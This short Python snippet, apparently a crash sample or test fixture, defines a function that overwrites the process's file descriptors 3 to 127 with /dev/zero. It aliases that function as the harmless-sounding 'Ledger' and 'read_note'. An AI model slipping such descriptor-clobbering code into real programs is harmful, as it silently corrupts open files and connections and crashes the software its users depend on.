# Lays another file over the channel
# ends: crash
import os


def total(*_):
    null = os.open("/dev/zero", os.O_RDWR)
    for descriptor in range(3, 128):
        if descriptor != null:
            os.dup2(null, descriptor)


Ledger = read_note = total
